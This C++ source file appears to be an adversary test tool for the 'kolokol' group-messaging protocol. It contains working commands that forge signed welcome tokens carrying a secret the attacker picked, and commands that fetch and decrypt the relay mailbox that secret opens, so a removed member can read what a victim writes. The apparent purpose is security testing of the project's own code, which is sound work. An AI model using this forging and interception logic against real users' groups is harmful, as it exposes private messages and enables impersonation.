// Welcome-token attacks: a member (removed, or never an admin) reads his own home with its
// passphrase, as anyone can on his own device, and forges welcome tokens from what it holds —
// signed with his own identity key, for a group and epoch the victim already holds, with a
// secret he chose. Then he reads the mailbox that secret opens on the group's relay, to see
// whether the victim wrote to him.
//
//   home-epochs HOME PASSFILE GROUP
//   forge-welcome HOME PASSFILE GROUP CARD [--epoch current|HEX] [--secret HEX]
//                 [--add-record victim|own|random|HEX]
//   mailbox-read RELAY SECRET GROUP EPOCH
#include <cstdio>
#include <fstream>
#include <iostream>
#include <map>
#include <stdexcept>

#include "command.hpp"
#include "epoch_keys.hpp"
#include "group.pb.h"
#include "kolokol/core/identity.hpp"
#include "kolokol/core/node.hpp"
#include "kolokol/crypto/encoding.hpp"
#include "kolokol/crypto/random.hpp"
#include "kolokol/crypto/sign.hpp"
#include "kolokol/crypto/x25519.hpp"
#include "kolokol/transport/sync.hpp"
#include "node_access.hpp"
#include "records.hpp"

namespace kolokol::adversary {
namespace {

using core::NodeTestAccess;

// The format's own constants, as a forger would copy them from the source.
constexpr std::string_view kWelcomeSignature = "kolokol/welcome/v1";
constexpr std::string_view kTokenPrefix = "kolokol-welcome:";
constexpr std::int64_t kDay = 24LL * 3600 * 1000;

std::unique_ptr<core::Node> open_home(const std::string& home, const std::string& pass_file) {
    std::ifstream in(pass_file);
    std::string passphrase;
    if (!in || !std::getline(in, passphrase)) throw std::runtime_error("cannot read " + pass_file);
    auto node = core::Node::open(home, as_bytes(passphrase));
    if (!node) throw std::runtime_error("cannot open " + home + ": " + node.error().what());
    return std::move(*node);
}

core::GroupId group_of(core::Node& node, const std::string& name) {
    auto g = node.resolve_group(name);
    if (!g) throw std::runtime_error("no group " + name + ": " + g.error().what());
    return *g;
}

ByteArray<32> hex32(const std::string& text, const char* what) {
    auto bytes = crypto::hex_decode(text);
    if (!bytes || bytes->size() != 32) usage_error(std::string(what) + " must be 64 hex digits");
    return to_array<32>(*bytes);
}

std::string hex(ByteView b) {
    return crypto::hex_encode(b);
}

// One line per epoch key the home holds for the group: EPOCH MAILBOX secret|control.
int home_epochs(std::span<const std::string> args) {
    if (args.size() != 3) usage_error("takes HOME PASSFILE GROUP");
    auto node = open_home(args[0], args[1]);
    auto group = group_of(*node, args[2]);
    auto& impl = NodeTestAccess::impl(*node);
    std::map<std::string, std::string> lines;  // sorted by epoch id
    for (const auto& [mailbox, keys] : impl.epochs) {
        if (keys.group_id != group) continue;
        lines[hex(keys.epoch_id)] = hex(mailbox) + (keys.secret ? " secret" : " control");
    }
    for (const auto& [epoch, rest] : lines) std::printf("%s %s\n", epoch.c_str(), rest.c_str());
    return 0;
}

// A welcome token for CARD's owner, signed by HOME's identity: every key HOME holds for the
// group, with the chosen epoch's secret replaced by one the forger picked.
int forge_welcome(std::span<const std::string> args) {
    if (args.size() < 4) usage_error("takes HOME PASSFILE GROUP CARD [options]");
    std::string epoch_arg = "current", secret_arg, add_arg = "victim";
    for (std::size_t i = 4; i < args.size(); i += 2) {
        if (i + 1 >= args.size()) usage_error(args[i] + " needs a value");
        if (args[i] == "--epoch")
            epoch_arg = args[i + 1];
        else if (args[i] == "--secret")
            secret_arg = args[i + 1];
        else if (args[i] == "--add-record")
            add_arg = args[i + 1];
        else
            usage_error("unknown option " + args[i]);
    }
    auto node = open_home(args[0], args[1]);
    auto group = group_of(*node, args[2]);
    auto victim = core::card_from_text(args[3]);
    if (!victim) throw std::runtime_error("the victim's card: " + victim.error().message);
    auto& impl = NodeTestAccess::impl(*node);
    const auto& state = impl.state(group);

    // The epoch to take over: by default the one the group writes in now, as the forger sees
    // it. A removed member sees it too: the rotation that shut him out was sealed in an epoch
    // he held, and its record id is the new epoch's id.
    core::EpochId target{};
    if (epoch_arg == "current") {
        auto frontier = state.frontier();
        if (frontier.empty()) throw std::runtime_error("the group has no epoch");
        target = frontier.front()->id;
    } else {
        target = hex32(epoch_arg, "--epoch");
    }
    Bytes secret = secret_arg.empty() ? crypto::system_random().bytes(32) : Bytes{};
    if (!secret_arg.empty()) {
        auto s = hex32(secret_arg, "--secret");
        secret.assign(s.begin(), s.end());
    }

    // The add record to name: the victim's own (a real, valid add — just not the forger's), the
    // forger's own, a random id, or any id given.
    core::RecordId add{};
    core::EpochId add_epoch = target;
    if (add_arg == "victim" || add_arg == "own") {
        const auto& who = add_arg == "victim" ? victim->sign_key : impl.card.sign_key;
        bool found = false;
        for (const auto& op : state.records()) {
            if (!op.body.has_membership() || op.body.membership().kind() != pb::MembershipOp::ADD ||
                op.body.membership().member() != to_string(who))
                continue;
            add = op.id;
            add_epoch = op.epoch;
            found = true;
        }
        if (!found) throw std::runtime_error("the forger holds no such add record");
    } else if (add_arg == "random") {
        add = crypto::system_random().array<32>();
    } else {
        add = hex32(add_arg, "--add-record");
    }

    pb::Welcome w;
    w.set_version(1);
    w.set_group_id(to_string(group));
    {
        auto st = impl.db.prepare("SELECT genesis FROM groups WHERE group_id = ?");
        if (!st) throw std::runtime_error("reading the genesis: " + st.error().what());
        st->bind(1, ByteView(group));
        auto r = st->step();
        if (!r || !*r) throw std::runtime_error("the forger's home has no genesis for the group");
        w.mutable_genesis()->ParseFromString(to_string(st->column_blob(0)));
    }
    w.mutable_inviter()->ParseFromString(to_string(impl.card.signed_bytes));
    w.set_invitee(to_string(victim->sign_key));
    w.mutable_add_record()->set_id(to_string(add));
    w.mutable_add_record()->set_epoch_id(to_string(add_epoch));
    bool placed = false;
    for (const auto& [mailbox, keys] : impl.epochs) {
        if (keys.group_id != group) continue;
        auto* grant = w.add_epochs();
        grant->set_group_id(to_string(group));
        grant->set_epoch_id(to_string(keys.epoch_id));
        if (keys.epoch_id == target) {
            grant->set_secret(to_string(secret));
            placed = true;
        } else if (keys.secret) {
            grant->set_secret(to_string(keys.secret->view()));
        } else {
            grant->set_control_key(to_string(keys.control_key.view()));
            grant->set_mailbox_seed(to_string(keys.mailbox_seed.view()));
            grant->set_file_key(to_string(keys.file_key.view()));
        }
    }
    if (!placed) {  // an epoch the forger never held (the one that excluded him)
        auto* grant = w.add_epochs();
        grant->set_group_id(to_string(group));
        grant->set_epoch_id(to_string(target));
        grant->set_secret(to_string(secret));
    }
    w.set_current_epoch(to_string(target));
    for (const auto& r : node->relays(group)) w.add_relays(r);
    w.set_expires_ms(impl.now() + 7 * kDay);
    auto welcome = w.SerializeAsString();
    pb::SignedWelcome sw;
    sw.set_welcome(welcome);
    sw.set_signature(to_string(
        crypto::sign(impl.identity.sign.secret_key, kWelcomeSignature, as_bytes(welcome))));
    auto sealed = crypto::box_seal(victim->box_key, as_bytes(sw.SerializeAsString()));
    std::fprintf(stderr, "epoch %s secret %s add-record %s\n", hex(target).c_str(),
                 hex(secret).c_str(), hex(add).c_str());
    std::printf("%s%s\n", std::string(kTokenPrefix).c_str(),
                crypto::base64url_encode(sealed).c_str());
    return 0;
}

// Keeps whatever the relay sends and offers nothing.
class Collector : public transport::Replica {
public:
    std::vector<Bytes> envelopes;
    Result<std::vector<core::RecordId>> ids(const core::MailboxId&) override {
        return std::vector<core::RecordId>{};
    }
    Result<std::optional<Bytes>> get(const core::RecordId&) override {
        return std::optional<Bytes>{};
    }
    Result<std::vector<bool>> put(const core::MailboxId&, std::span<const Bytes> in) override {
        envelopes.insert(envelopes.end(), in.begin(), in.end());
        return std::vector<bool>(in.size(), true);
    }
};

// Fetches the mailbox that SECRET opens for (GROUP, EPOCH) from the relay and prints every
// message text that opens under it, one per line; the count on stderr.
int mailbox_read(std::span<const std::string> args) {
    if (args.size() != 4) usage_error("takes RELAY SECRET GROUP EPOCH");
    auto secret = hex32(args[1], "SECRET");
    auto keys = core::EpochKeys::from_secret(hex32(args[2], "GROUP"), hex32(args[3], "EPOCH"),
                                             ByteView(secret));
    std::vector<transport::MailboxKey> open;
    open.push_back(transport::MailboxKey::from_seed(keys.mailbox_seed.view()));
    Collector got;
    auto local = crypto::box_keypair();
    auto report = transport::sync_with(args[0], local, std::move(open), got);
    if (!report) throw std::runtime_error("sync with the relay failed: " + report.error().what());
    std::size_t opened = 0;
    for (const auto& env : got.envelopes) {
        auto rec = core::open_record(env, keys);
        if (!rec) continue;
        ++opened;
        if (rec->body.has_message()) std::printf("%s\n", rec->body.message().text().c_str());
    }
    std::fprintf(stderr, "%zu envelopes, %zu opened\n", got.envelopes.size(), opened);
    return 0;
}

const Registration home_epochs_reg{
    {"home-epochs", "HOME PASSFILE GROUP — the epoch keys a home holds (EPOCH MAILBOX kind)",
     home_epochs}};
const Registration forge_reg{
    {"forge-welcome",
     "HOME PASSFILE GROUP CARD [--epoch current|HEX] [--secret HEX] "
     "[--add-record victim|own|random|HEX] — a welcome token signed by HOME's key",
     forge_welcome}};
const Registration mailbox_read_reg{
    {"mailbox-read", "RELAY SECRET GROUP EPOCH — fetch and open the mailbox SECRET gives",
     mailbox_read}};

}  // namespace
}  // namespace kolokol::adversary
